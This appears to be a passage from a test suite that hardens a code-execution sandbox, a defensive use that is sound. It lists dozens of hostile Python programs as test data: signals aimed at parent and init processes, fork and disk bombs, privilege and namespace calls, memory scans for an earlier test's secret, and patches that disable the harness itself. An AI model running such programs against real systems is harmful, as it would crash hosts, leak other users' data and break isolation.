    "by_timer": "event = (ctypes.c_int * 16)(0, 0, 9, 0)\ntimer = ctypes.c_int()\nlibc.syscall(222, 1, event, ctypes.byref(timer))\n"
    "libc.syscall(223, timer, 0, (ctypes.c_long * 4)(0, 0, 0, 1_000_000), None)\nwhile True: pass",
    "by_pipe": "import fcntl\nread, write = os.pipe()\nfcntl.fcntl(read, 10, 9)\nfcntl.fcntl(read, fcntl.F_SETOWN, os.getpid())\n"
    "fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\nos.write(write, b'x')",
    "by_its_own_limit": "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (0, 0))\nwhile True: pass",
    "by_its_own_limit_of_a_second": "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (1, 1))\nwhile True: pass",
    "by_parents_death": "libc.prctl(1, 9, 0, 0, 0)",
    "by_alien_calls": "code = ctypes.create_string_buffer(16)\nlibc.syscall(0x40000000 | 39)",
}
for kind, program in KILLS.items():
    attack(
        f"killed_{kind}",
        "import ctypes, os, signal\nlibc = ctypes.CDLL(None)\nprint(42, flush=True)\n" + program + "\nos._exit(1)",
    )

SIGNALS = """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
def everywhere(number):
    for pid in (os.getppid(), 1, os.getpid() - 1, os.getpid() - 2):
        for call in (lambda: os.kill(pid, number), lambda: os.killpg(os.getpgid(pid), number)):
            try: call()
            except OSError: pass
        for tid in (pid, pid + 1):
            libc.syscall(234, pid, tid, number)  # tgkill
            libc.syscall(200, tid, number)  # tkill
        info = (ctypes.c_int * 32)(number, 0, -1)
        libc.syscall(129, pid, number, info)  # rt_sigqueueinfo
        libc.syscall(297, pid, pid, number, info)  # rt_tgsigqueueinfo
        handle = libc.syscall(434, pid, 0)
        if handle >= 0:
            libc.syscall(424, handle, number, None, 0)  # pidfd_send_signal
    for target in (0, -1):
        try: os.kill(target, number)
        except OSError: pass
"""
for number in ("SIGKILL", "SIGSTOP", "SIGTERM", "SIGINT", "SIGSEGV", "SIGCHLD", "SIGHUP"):
    guard = f"signal.signal(signal.{number}, signal.SIG_IGN)\n" if number not in ("SIGKILL", "SIGSTOP") else ""
    attack(f"signal_{number.lower()}", SIGNALS + guard + f"everywhere(signal.{number})\nprint(42)\n", tiers=KERNEL)
attack(
    "signal_through_a_pipe_of_its_own",
    """
    import fcntl, os, struct
    for target in (os.getppid(), 1, os.getpid() - 1, -os.getpgid(0)):
        read, write = os.pipe()
        for call in (
            lambda: fcntl.fcntl(read, 10, 9),  # F_SETSIG: KILL instead of IO
            lambda: fcntl.fcntl(read, fcntl.F_SETOWN, target),
            lambda: fcntl.fcntl(read, 15, struct.pack("ii", 1, target)),
            lambda: fcntl.ioctl(read, 0x8901, struct.pack("i", target)),
            lambda: fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK),
        ):
            try: call()
            except OSError: pass
        os.write(write, b"x")
    print(42)
    """,
    tiers=KERNEL,
)
attack(
    "forge_to_sockets_with_a_path",
    """
    import glob, os, socket
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        try:
            pair = socket.socketpair(socket.AF_UNIX, kind)
        except OSError:
            continue
        for path in ("/dev/log", "/run/systemd/notify", *glob.glob("/tmp/bait-*")):
            try:
                pair[0].sendto(b"x", path)
            except OSError:
                pass
    """,
    tiers=KERNEL,
)
attack(
    "signal_by_timers_and_death",
    """
    import ctypes, os, signal
    libc = ctypes.CDLL(None)
    libc.prctl(1, 9, 0, 0, 0)  # its own death signal
    libc.prctl(36, 1, 0, 0, 0)  # become a reaper
    libc.prctl(4, 1, 0, 0, 0)  # dumpable
    libc.prctl(15, b"python3", 0, 0, 0)
    libc.prctl(23, 0, 0, 0, 0)
    libc.personality(0x0040000)
    signal.setitimer(signal.ITIMER_PROF, 0.001)
    while True: pass
    """,
)

NEW_PROCESS = {
    "fork": "import os\nif os.fork() == 0: os.setsid(); import time; time.sleep(60)",
    "fork_bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "fork_and_leave": "import os, time\nfor _ in range(3):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0: time.sleep(60)\n        os._exit(0)",
    "vfork": "import ctypes\nctypes.CDLL(None).syscall(58)",
    "clone": "import ctypes, time\nif ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0) == 0: time.sleep(60)",
    "clone_parent": "import ctypes, time\nif ctypes.CDLL(None).syscall(56, 0x8011, 0, 0, 0, 0) == 0: time.sleep(60)",
    "clone_namespace": "import ctypes, time\nif ctypes.CDLL(None).syscall(56, 0x30000011, 0, 0, 0, 0) == 0: time.sleep(60)",
    "clone_untraced": "import ctypes, time\nif ctypes.CDLL(None).syscall(56, 0x00800111, 0, 0, 0, 0) == 0: time.sleep(60)",
    "clone3": (
        "import ctypes, time\nargs = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)\nif ctypes.CDLL(None).syscall(435, args, 88) == 0: time.sleep(60)"
    ),
    "spawn": "import os\nos.posix_spawn('/bin/sleep', ['sleep', '60'], {})",
    "subprocess": "import subprocess\nsubprocess.Popen(['/bin/sleep', '60'])",
    "system": "import os\nos.system('/bin/sleep 60 &')",
    "exec": "import os\nos.execv('/bin/sleep', ['sleep', '60'])",
    "exec_shell": "import os\nos.execv('/bin/sh', ['sh', '-c', 'echo 42; sleep 60 & exit 0'])",
    "exec_python": "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'print(42)'])",
    "exec_from_memory": (
        "import os, sys\nfd = os.memfd_create('x', 0)\nos.write(fd, open('/bin/true', 'rb').read())\nos.execve(fd, ['x'], {})"
    ),
    "multiprocessing": "import multiprocessing as m, time\nm.get_context('fork').Process(target=time.sleep, args=(60,)).start()",
    "pty": "import pty, time\npid, fd = pty.fork()\ntime.sleep(60)",
    "thread_bomb": "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(60,)).start()\n    except RuntimeError: pass",
}
for kind, program in NEW_PROCESS.items():
    tiers = ALL if kind in ("thread_bomb",) else KERNEL
    attack(f"process_{kind}", program, tiers=tiers)

# ── bombs, the disk, the compiler ────────────────────────────────────────────────────────────────────────────────────

BOMBS = {
    "disk": "import os\nblock = bytes(1 << 20)\nfor n in range(10 ** 6):\n    with open(f'hostile-mark-{n}', 'wb') as f:\n        for _ in range(64): f.write(block)",
    "disk_and_swallow": (
        "import os\nblock = bytes(1 << 20)\nn = 0\nwhile True:\n    n += 1\n    try:\n        with open(f'hostile-mark-{n}', 'wb') as f:\n"
        "            while True: f.write(block)\n    except OSError: pass"
    ),
    "disk_sparse": "f = open('hostile-mark', 'wb'); f.seek(1 << 40); f.write(b'x')",
    "disk_allocate": "import os\nf = open('hostile-mark', 'wb'); os.posix_fallocate(f.fileno(), 0, 1 << 40)",
    "inodes": "import os\nfor n in range(10 ** 7): os.close(os.open(f'hostile-mark-{n}', os.O_CREAT | os.O_WRONLY))",
    "folders": "import os\nwhile True: os.mkdir('hostile-mark'); os.chdir('hostile-mark')",
    "links": "import os\nopen('hostile-mark', 'w')\nfor n in range(10 ** 7): os.link('hostile-mark', f'hostile-mark-{n}')",
    "locked_folder": "import os\nos.mkdir('hostile-mark'); open('hostile-mark/x', 'w'); os.chmod('hostile-mark', 0); os.chmod('.', 0)",
    "odd_names": "import os\nfor n in (b'\\xff\\n', b'a' * 255, b'-rf', b'..\\n', b'\\x1b[2J'):\n    open(b'hostile-mark' [:12 if n[:1] != b'a' else 0] + n, 'w')",
    "pipe_file": "import os\nos.mkfifo('hostile-mark'); open('hostile-mark')",
    "device": "import os\nos.mknod('hostile-mark', 0o20666, 0x101)\nopen('hostile-mark', 'rb').read(10)",
    "link_out": "import os\nos.symlink('/', 'hostile-mark'); os.symlink('/etc/passwd', 'hostile-mark-2'); os.rename('hostile-mark', 'x')",
    "replace_folder": "import os\nd = os.getcwd(); os.chdir('/'); os.rmdir(d); os.symlink('/', d)",
    "memory_file": "import os\nkeep = []\nwhile True:\n    fd = os.memfd_create('x'); os.write(fd, bytes(1 << 24)); keep.append(fd)",
    "memory_file_big": "import os\nfd = os.memfd_create('x')\nos.ftruncate(fd, 1 << 40)\nos.posix_fallocate(fd, 0, 1 << 34)",
    "shared_segments": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmat.restype = ctypes.c_void_p\nfor n in range(200):\n    i = libc.shmget(0x7E570000 + n, 1 << 24, 0o1666)\n"
        "    p = libc.shmat(i, None, 0)\n    if p and p != 2 ** 64 - 1: ctypes.memset(p, 1, 1 << 24)"
    ),
    "pipes": "import os\nkeep = []\nwhile True:\n    r, w = os.pipe(); os.set_blocking(w, False); keep += [r, w]\n    try:\n        while True: os.write(w, bytes(65536))\n    except BlockingIOError: pass",
    "sockets": "import socket\nkeep = []\nwhile True:\n    a, b = socket.socketpair(); a.setblocking(False); keep += [a, b]\n    try:\n        while True: a.send(bytes(65536))\n    except BlockingIOError: pass",
    "descriptors": "import os\nwhile True: os.dup(1)",
    "stderr": "import sys\nwhile True: sys.stderr.write('x' * 100_000)",
    "locked_memory": "import ctypes, mmap\nlibc = ctypes.CDLL(None)\nlibc.mlockall(7)\nkeep = []\nwhile True: keep.append(bytearray(1 << 24))",
    "page_tables": "import mmap\nkeep = []\nwhile True:\n    m = mmap.mmap(-1, 1 << 30); [m.__setitem__(k, 1) for k in range(0, 1 << 30, 1 << 21)]; keep.append(m)",
    "many_maps": "import mmap\nkeep = []\nwhile True: keep.append(mmap.mmap(-1, 4096))",
    "timers": "import ctypes\nlibc = ctypes.CDLL(None)\nwhile True: libc.syscall(222, 0, None, (ctypes.c_int * 8)())",
    "watches": "import ctypes, os\nlibc = ctypes.CDLL(None)\nwhile True:\n    fd = libc.inotify_init()\n    libc.inotify_add_watch(fd, b'.', 0xFFF)",
    "limits_raised": (
        "import resource\nfor which in range(16):\n    try: resource.setrlimit(which, (-1, -1))\n    except (OSError, ValueError): pass\n"
        "keep = []\nwhile True: keep.append(bytearray(1 << 24))"
    ),
    "privilege": (
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor call in (os.setuid, os.setgid, os.seteuid):\n    try: call(0)\n    except OSError: pass\n"
        "for flags in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x4000000): libc.unshare(flags)\n"
        "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None); libc.chroot(b'/'); libc.sethostname(b'x', 1); libc.umount2(b'/proc', 2)\n"
        "libc.swapon(b'/x', 0); libc.reboot(0); libc.settimeofday((ctypes.c_long * 2)(1, 1), None); libc.syncfs(1)\n"
        "keep = []\nwhile True: keep.append(bytearray(1 << 24))"
    ),
    "zip": "import zlib\nx = zlib.compress(bytes(10 ** 7))\nwhile True: x = zlib.compress(x * 1000)",
    "hash_collisions": "x = {k * (2 ** 61 - 1): 0 for k in range(10 ** 6)}",
    "prompt": "input('x' * (1 << 25))",
    "exception": "raise ValueError('x' * (1 << 28))",
    "exception_of_surrogates": "raise ValueError('\\ud800' * 1000)",
    "exception_that_fails": "class E(Exception):\n    def __str__(self): raise self\n    __repr__ = __str__\nraise E",
    "exception_named": "class MemoryError(Exception): pass\nraise MemoryError('forged')",
    "exception_chain": "def f(n):\n    try: 1 // 0\n    except Exception: f(n + 1)\nf(0)",
    "warnings": "import warnings\nwarnings.simplefilter('always')\nwhile True: warnings.warn('x' * 10000, stacklevel=1)",
    "import_this": "import antigravity, this, webbrowser",
    "faulthandler": "import faulthandler\nfaulthandler.dump_traceback_later(0.01, repeat=True, exit=True)\nwhile True: pass",
}
for kind, program in BOMBS.items():
    tiers = KERNEL if kind in ("shared_segments", "device") else ALL
    attack(f"bomb_{kind}", program, tiers=tiers)

SOURCES = {
    "parentheses": "(" * 100_000 + ")" * 100_000,
    "parentheses_150": "(" * 150 + "1" + ")" * 150 + "\nimport time\ntime.sleep(9)",
    "minus": "x = " + "-" * 1_000_000 + "1",
    "not": "x = " + "not " * 300_000 + "1",
    "plus": "x = " + "1+" * 500_000 + "1",
    "attributes": "x" + ".x" * 500_000,
    "calls": "x" + "()" * 500_000,
    "power": "x = " + "2**" * 100_000 + "2",
    "lambda": "x = " + "lambda: " * 50_000 + "1",
    "blocks": "".join(" " * n + "if 1:\n" for n in range(2000)) + " " * 2000 + "pass",
    "comprehension": "x = " + "[" * 180 + "0" + " for a in b]" * 180,
    "braces": "x = " + "{1:" * 190 + "0" + "}" * 190,
    "braces_open": "{" * 100_000,
    "format_strings": "x = " + 'f"{' * 1 + "f'{1}'" + '}"' + "\nx = f'{" + "(" * 199 + "1" + ")" * 199 + "}'",
    "format_width": "print(f'{1:{10 ** 9}}')",
    "folding": "x = 'a' * 2 ** 40\ny = (0,) * 2 ** 33\nz = 9 ** 9 ** 9",
    "nul": "print(4)\x00\nprint(2)",
    "surrogate": "print('\ud800')",
    "surrogate_name": "x\udcff = 1",
    "long_integer": "x = " + "9" * 1_000_000,
    "long_line": "x = '" + "a" * 10_000_000 + "'",
    "many_lines": "x = 1\n" * 1_000_000,
    "many_names": "\n".join(f"x{n} = {n}" for n in range(200_000)),
    "dictionary": "x = {" + ",".join(f"{n}:{n}" for n in range(300_000)) + "}",
    "elif": "if 0: pass\n" + "elif 0: pass\n" * 50_000,
    "decorators": "@x\n" * 100_000 + "def f(): pass",
    "strings_joined": "x = " + "'a' " * 500_000,
    "stars": "a, *" * 50_000 + "b = c",
    "cookie_utf7": "# coding: utf-7\n+AHAAcgBpAG4AdAAoADQAMgAp-",
    "cookie_unknown": "# coding: no-such-codec\nprint(42)",
    "cookie_rot13": "# coding: rot13\ncevag(42)",
    "cookie_idna": "# coding: punycode\nprint(42)",
    "braces_future": "from __future__ import braces",
    "backslashes": "\\\n" * 500_000 + "x",
    "tabs": "if 1:\n" + "\t" * 200_000 + "x = 1\n" + " " * 200_000 + "y = 1",
    "indents": "".join("if 1:\n" + " " * (n + 1) for n in range(99)) + "pass",
    "names": "x = '\\N{" + "LATIN " * 100_000 + "}'",
    "escapes": "x = b'" + "\\q" * 500_000 + "'",
    "walrus": "(a:=" * 5_000 + "1" + ")" * 5_000,
    "match": "match x:\n case " + "[" * 5_000 + "]" * 5_000 + ": pass",
    "types": "def f(" + ", ".join(f"a{n}: int = {n}" for n in range(50_000)) + "): pass",
    "conditional": "x = " + "1 if 1 else " * 50_000 + "1",
    "strings_open": '"""' + "\\" * 1_000_001,
    "empty": "",
    "separators": ";" * 100_000,
    "carriage_returns": "\r" * 100_000,
    "page_feeds": "\x0c" * 100_000 + "x",
    "identifiers": "\u1d5b\u1d43\u02e1 = 1\n" * 10_000,
}
for kind, source in SOURCES.items():
    ATTACKS[f"source_{kind}"] = Attack(source, (("1\n", SECRET),), "stdio", ALL)

# ── one test leaves something for the next ("leaked" is what the second test expects) ────────────────────────────────

STATE = {
    "own_folder": ("open('hostile-mark', 'w').write('x')", "open('hostile-mark')"),
    "upper_folder": ("open('../hostile-mark', 'w').write('x')", "open('../hostile-mark')"),
    "tmp": ("open('/tmp/hostile-mark', 'w').write('x')", "open('/tmp/hostile-mark')"),
    "var_tmp": ("open('/var/tmp/hostile-mark', 'w').write('x')", "open('/var/tmp/hostile-mark')"),
    "shm": ("open('/dev/shm/hostile-mark', 'w').write('x')", "open('/dev/shm/hostile-mark')"),
    "home": ("open(os.path.expanduser('~/hostile-mark'), 'w')", "open(os.path.expanduser('~/hostile-mark'))"),
    "python": (
        "open(os.path.dirname(os.__file__) + '/hostile-mark', 'w')",
        "open(os.path.dirname(os.__file__) + '/hostile-mark')",
    ),
    "modules": ("import json; json.hostile_mark = 1", "import json; json.hostile_mark"),
    "builtins": ("import builtins; builtins.hostile_mark = 1", "hostile_mark"),
    "globals": ("globals()['hostile_mark'] = 1", "hostile_mark"),
    "interned_type": (
        "import ctypes; ctypes.pythonapi.Py_IncRef; __import__('os').environ['HOSTILE'] = '1'",
        "os.environ['HOSTILE']",
    ),
    "source_memory": (
        "import linecache; linecache.cache['hostile-mark'] = 1",
        "import linecache; linecache.cache['hostile-mark']",
    ),
    "umask": ("os.umask(0o123)", "assert os.umask(0) == 0o123"),
    "nice": ("os.nice(7)", "assert os.nice(0) == 7"),
    "limits": (
        "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (40, 40))",
        "import resource; assert resource.getrlimit(resource.RLIMIT_NOFILE) == (40, 40)",
    ),
    "shared_segment": (
        "import ctypes; assert ctypes.CDLL(None).shmget(0x7E57AB1E, 4096, 0o1666) >= 0",
        "import ctypes; assert ctypes.CDLL(None).shmget(0x7E57AB1E, 4096, 0) >= 0",
    ),
    "semaphore": (
        "import ctypes; assert ctypes.CDLL(None).semget(0x7E57AB1E, 1, 0o1666) >= 0",
        "import ctypes; assert ctypes.CDLL(None).semget(0x7E57AB1E, 1, 0) >= 0",
    ),
    "messages": (
        "import ctypes; assert ctypes.CDLL(None).msgget(0x7E57AB1E, 0o1666) >= 0",
        "import ctypes; assert ctypes.CDLL(None).msgget(0x7E57AB1E, 0) >= 0",
    ),
    "posix_queue": (
        "import ctypes; assert ctypes.CDLL(None, use_errno=True).mq_open(b'/hostile-mark', 0o102, 0o666, None) >= 0",
        "import ctypes; assert ctypes.CDLL(None, use_errno=True).mq_open(b'/hostile-mark', 0) >= 0",
    ),
    "keyring": (
        "import ctypes; assert ctypes.CDLL(None).syscall(248, b'user', b'hostile-mark', b'x', 1, -4) >= 0",
        "import ctypes; assert ctypes.CDLL(None).syscall(249, b'user', b'hostile-mark', None, -4) >= 0",
    ),
    "lock_on_null": (
        "import fcntl, time; fcntl.flock(open('/dev/null'), fcntl.LOCK_EX)\nif os.fork() == 0: time.sleep(5)",
        "import fcntl\ntry: fcntl.flock(open('/dev/null'), fcntl.LOCK_EX | fcntl.LOCK_NB)\nexcept BlockingIOError: pass\nelse: raise OSError",
    ),
    "times_of_python": ("os.utime(os.__file__, (77, 77))", "assert os.stat(os.__file__).st_mtime == 77"),
    "mode_of_null": ("os.chmod('/dev/null', 0o640)", "assert os.stat('/dev/null').st_mode & 0o777 == 0o640"),
    "stdin": ("os.lseek(0, 0, 0); os.write(0, b'9')", "assert stdin_text != '2'"),
    "stdin_map": ("import mmap; mmap.mmap(0, 1)[:] = b'9'", "assert stdin_text != '2'"),
    "stdout": ("os.write(1, b'leaked')", "pass; os._exit(0) if os.fstat(1).st_size == 0 else None"),
    "abstract_socket": (
        "import socket; s = socket.socket(socket.AF_UNIX); s.bind('\\0hostile-mark'); s.listen()\nif os.fork() == 0: __import__('time').sleep(5)",
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0hostile-mark')",
    ),
    "host_name": (
        "import socket; socket.sethostname('hostile-mark')",
        "import socket; assert socket.gethostname() == 'hostile-mark'",
    ),
    "process_group": (
        "os.setsid()",
        "assert os.getsid(0) != os.getpid() and os.path.exists(f'/proc/{os.getsid(0)}/nope')",
    ),
    "priority_of_parent": (
        "os.setpriority(os.PRIO_PROCESS, os.getppid(), 11)",
        "assert os.getpriority(os.PRIO_PROCESS, 0) == 11",
    ),
    "affinity_of_parent": (
        "all = os.sched_getaffinity(0); assert len(all) > 1; os.sched_setaffinity(os.getppid(), {min(all)})",
        "assert len(os.sched_getaffinity(0)) == 1",
    ),
    "random_state": ("import random; random.seed(5)", "import random; assert random.random() == 0.6229016948897019"),
    "recursion_limit": ("sys.setrecursionlimit(12345)", "assert sys.getrecursionlimit() == 12345"),
}
STATE |= {
    "page_shared_with_the_parent": (
        "[m.__setitem__(k, 77) for m in maps() for k in range(16, len(m))]",
        "assert any(m[99] == 77 for m in maps())",
    ),
    "flags_of_descriptors": (
        "import fcntl\n[fcntl.fcntl(fd, fcntl.F_SETFL, os.O_APPEND | os.O_NONBLOCK) for fd in (0, 1, 2)]",
        "import fcntl\nassert any(fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_APPEND for fd in (0, 1, 2))",
    ),
    "owner_of_descriptors": (
        "import fcntl\n[fcntl.fcntl(fd, 10, 40) for fd in (0, 1, 2)]",
        "import fcntl\nassert any(fcntl.fcntl(fd, 11) == 40 for fd in (0, 1, 2))",
    ),
    "lock_on_stderr": (
        "import fcntl\n[fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB) for fd in (2, 0)]",
        "import fcntl\ntry: fcntl.flock(os.open('/dev/null', 0), fcntl.LOCK_EX | fcntl.LOCK_NB)\nexcept BlockingIOError: pass\nelse: raise OSError",
    ),
    "earlier_output": (
        "os.write(1, b'leak-' + os.urandom(8).hex().encode())",
        "import gc, re, sys\nf, near = sys._getframe(), []\nwhile f:\n    near += f.f_locals.values(); f = f.f_back\n"
        "for _ in range(3): near += [p for t in near for p in gc.get_referents(t) if type(t) is not type(re)][:200_000]\n"
        "assert any(re.search(rb'leak-[0-9a-f]{16}', p) for p in near if type(p) is bytes)",
    ),
}
FORKED = {"shm": KERNEL, "tmp": KERNEL, "var_tmp": KERNEL, "home": KERNEL, "upper_folder": KERNEL, "python": KERNEL}
for kind in (
    "shared_segment",
    "semaphore",
    "messages",
    "posix_queue",
    "keyring",
    "lock_on_null",
    "abstract_socket",
    "host_name",
):
    FORKED[kind] = KERNEL
for kind in ("times_of_python", "mode_of_null", "priority_of_parent", "affinity_of_parent"):
    FORKED[kind] = KERNEL
for kind, (leave, find) in STATE.items():
    attack(
        f"state_{kind}",
        "import os, sys\nstdin_text = sys.stdin.read().strip()\ndef maps():\n    import gc, mmap\n    f, found = sys._getframe(), []\n"
        "    while f:\n        found += [v for v in f.f_locals.values() if type(v) is mmap.mmap]\n        f = f.f_back\n"
        "    return found + [t for t in gc.get_objects() if type(t) is mmap.mmap]\ndef attempt(text):\n    try: exec(text, globals())\n"
        "    except BaseException: return False\n    return True\nif stdin_text == '1':\n"
        f"    attempt({leave!r})\nelse:\n    print('leaked' if attempt({find!r}) else 'clean')\n",
        tests=(("1\n", SECRET), ("2\n", "leaked")),
        tiers=FORKED.get(kind, ALL),
    )

# ── an earlier test, found in memory that was freed before the fork ──────────────────────────────────────────────────

SCAN = r"""
import ctypes, os, re, sys
def found():
    # write(2) tells a page that is there from one that is not, and no read ever faults
    out, into = os.pipe()
    os.set_blocking(out, False)
    libc, pattern, seen = ctypes.CDLL(None), re.compile(rb"secret-[0-9a-f]{32}"), set()
    near = [ctypes.addressof(ctypes.create_string_buffer(n)) for n in (600, 5000, 60000, 300000)]
    for start in [*near, id(object()), id(sys.modules), id(re)]:
        for step in (4096, -4096):
            at, gap, kept = start & ~4095, 0, b""
            while gap < 600 and at not in seen and len(seen) < 60000:
                seen.add(at)
                n = libc.write(into, ctypes.c_void_p(at), 4096)
                page = os.read(out, n) if n > 0 else b""
                match = pattern.search(kept + page if step > 0 else page + kept)
                if match:
                    return match[0].decode()
                gap = 0 if page else gap + 1
                kept = page[-40:] if step > 0 else page[:40]
                at += step
    return "nothing"
"""
LONG = (SECRET + " ") * 2000
attack(
    "memory_of_an_earlier_input",
    SCAN + "print('read' if os.fstat(0).st_size > 100 and sys.stdin.read() else found())\n",
    tests=((LONG, "never"), ("2\n", SECRET)),
)
attack(
    "memory_of_an_earlier_output",
    SCAN + "text = sys.stdin.read().strip()\nprint((text[::-1] + ' ') * 2000 if len(text) > 1 else found())\n",
    tests=((SECRET[::-1], "never"), ("2\n", SECRET)),
)
assert_attack(
    "memory_of_an_earlier_call",
    SCAN + "def f(x):\n    return 'read' if len(x) > 1 else found()\n",
    asserts=(f"assert f({LONG[:20_000]!r}) == 'never'", f"assert f('2') == {SECRET!r}"),
)

# ── the machinery inside the test process ────────────────────────────────────────────────────────────────────────────

PATCHES = {
    "print": "import builtins\nbuiltins.print = lambda *a, **k: None",
    "exit_functions": "import os, sys\nos._exit = sys.exit = lambda *a: None",
    "stdout_object": "import sys\nclass O:\n    def __getattr__(self, n): raise SystemExit(0)\nsys.stdout = sys.stderr = sys.stdin = O()",
    "stdout_closed": "import sys\nsys.stdout.close(); sys.stderr.close(); sys.stdin.close()",
    "hooks": "import sys\nsys.excepthook = sys.displayhook = sys.unraisablehook = lambda *a: sys.exit(0)\nraise ValueError",
    "audit": "import sys\ndef hook(*a): raise SystemExit(0)\nsys.addaudithook(hook)\nopen('x')",
    "collector": "import gc\ngc.callbacks.append(lambda *a: exit(0))\ngc.collect()",
    "threading": "import threading\nthreading._shutdown = lambda: 1 // 0\nthreading.stack_size(1 << 16)",
    "atexit": "import atexit\natexit._run_exitfuncs = atexit._clear = lambda: None\natexit.register(lambda: 1 // 0)",
    "import": "import builtins, sys\nbuiltins.__import__ = lambda *a, **k: sys\nsys.meta_path.clear(); sys.path.clear(); sys.path_hooks.clear()",
    "json_struct_os": "import os, sys\nfor n in list(sys.modules):\n    if n != 'sys' and n != 'builtins': sys.modules[n] = None",
    "all_functions": (
        "import gc, types\nyes = (lambda *a, **k: True).__code__\nfor t in gc.get_objects():\n    if type(t) is types.FunctionType:\n"
        "        try: t.__code__ = yes\n        except Exception: pass"
    ),
    "all_globals": "import sys\nf = sys._getframe()\nwhile f:\n    g = f.f_globals; f = f.f_back\n    [g.__setitem__(k, None) for k in list(g) if k != 'g' and not k.startswith('__')]",
    "codecs": "import codecs\ncodecs.register(lambda n: 1 // 0)\ncodecs.register_error('strict', lambda e: ('', e.end))",
    "signals": "import signal, sys\nfor s in range(1, 65):\n    try: signal.signal(s, lambda *a: sys.exit(0))\n    except (OSError, ValueError): pass",
    "main": "import sys\nsys.modules['__main__'] = sys\n__name__ = 'x'; del __builtins__",
    "tracing": "import sys\nsys.settrace(lambda *a: sys.exit(0)); sys.setprofile(lambda *a: sys.exit(0))\n(lambda: 0)()",
    "descriptors_moved": "import os\nfor fd in range(3, 100):\n    try: os.dup2(1, fd)\n    except OSError: pass",
    "memory": "import ctypes\nctypes.memset(id(True), 0xFF, 32)",
    "interpreter": "import ctypes\nctypes.pythonapi.Py_Finalize()",
    "interpreter_restart": "import ctypes\nctypes.pythonapi.Py_Exit(0)",
    "stack_of_threads": "import threading, sys\nthreading.stack_size(1 << 29)\nt = [threading.Thread(target=input) for _ in range(5)]\n[x.start() for x in t]",
    "returns": "import ctypes, sys\nraise StopIteration",
}
for kind, program in PATCHES.items():
    attack(f"patch_{kind}", program)
    assert_attack(f"patch_{kind}_assert", program + "\ndef f(x):\n    return x\n")


# ── what is kept, taken or held up beyond the test, for others ("done" is what is expected, and means: it was granted) ──

GRANTED = """
import array, ctypes, fcntl, os, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def granted(act):
    try: return act() is not False
    except (OSError, ValueError, RuntimeError): return False
def called(*args):
    return libc.syscall(*map(ctypes.c_long, args)) >= 0
"""


def taking(name: str, program: str, tiers: str = KERNEL, times: int = 1, beside: bool = False) -> None:
    tests = tuple((f"{n}\n", "done") for n in range(1, times + 1))
    attack(name, GRANTED + textwrap.dedent(program), tiers=tiers, tests=tests, beside=beside)


# Unlinked files and descriptors, held by a cycle of sockets that nobody has open any more.
FILES = """
held = []
for n in range(44):
    with open(f"x{n}", "wb") as file:
        file.write(bytes(1 << 20))
    held.append(os.open(f"x{n}", os.O_RDONLY))
    os.unlink(f"x{n}")
one, two = socket.socketpair()
"""
SENDING = {
    "by_sendmsg": "one.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', fds))])",
    "by_send_fds": "socket.send_fds(one, [b'x'], fds)",
    "by_raw_calls": """
    control = struct.pack('@Nii', 16 + 4 * len(fds), socket.SOL_SOCKET, 1) + array.array('i', fds).tobytes()
    control = ctypes.create_string_buffer(control, len(control) + len(control) % 8)
    data = ctypes.create_string_buffer(b'x')
    piece = ctypes.create_string_buffer(struct.pack('@PN', ctypes.addressof(data), 1))
    head = struct.pack('@PIPNPNi', 0, 0, ctypes.addressof(piece), 1, ctypes.addressof(control), len(control), 0)
    many = ctypes.create_string_buffer(head + bytes(32))
    fd, at = one.fileno(), ctypes.addressof(many)
    return called(46, fd, at, 0) or called(307, fd, at, 1, 0)""",
}
for kind, send in SENDING.items():
    taking(
        f"cycle_of_sockets_{kind}",
        f"{FILES}\ndef send(fds):\n    {send.strip()}\nif granted(lambda: send([*held, one.fileno(), two.fileno()])): print('done')\n",
    )
taking(
    "cycle_of_both_ends",
    FILES
    + "def cross():\n    socket.send_fds(one, [b'x'], [*held[:20], one.fileno()])\n"
    + "    socket.send_fds(two, [b'x'], [*held[20:], two.fileno()])\nif granted(cross): print('done')\n",
)
taking(
    "cycle_keeps_stdin_and_stdout",
    """
    pairs = [socket.socketpair() for _ in range(4)]
    def send():
        for one, two in pairs: socket.send_fds(one, [b"x"], [0, 1, 2, one.fileno(), two.fileno()])
    if granted(send): print("done")
    """,
    times=5,
)

# A lease on a file of the library makes everybody wait who opens it.
LEASES = """
import difflib, importlib.util
signal.signal(signal.SIGIO, signal.SIG_IGN)
library, held = os.path.dirname(os.__file__), []
def lease(path, ask):
    for folder, fit in ((os.path.dirname(path), path), (os.path.dirname(importlib.util.cache_from_source(path)), None)):
        fit = fit or importlib.util.cache_from_source(path)
        if os.path.exists(fit):
            fd = os.open(fit, os.O_RDONLY)
            if granted(lambda: ask(fd)): held.append(fd)
            else: os.close(fd)
def hold():
    if held:
        print("done", flush=True)
        until = time.monotonic() + (0.2 if input() == "1" else 3)
        while time.monotonic() < until: time.sleep(0.05)
MODULES = [f"{library}/{name}.py" for name in "difflib csv argparse gettext decimal optparse sched".split()]
"""
ASKED = {
    "library": ("MODULES", "fcntl.fcntl(fd, 1024, 1)"),
    "library_to_read": ("MODULES", "fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)"),
    "extensions": (
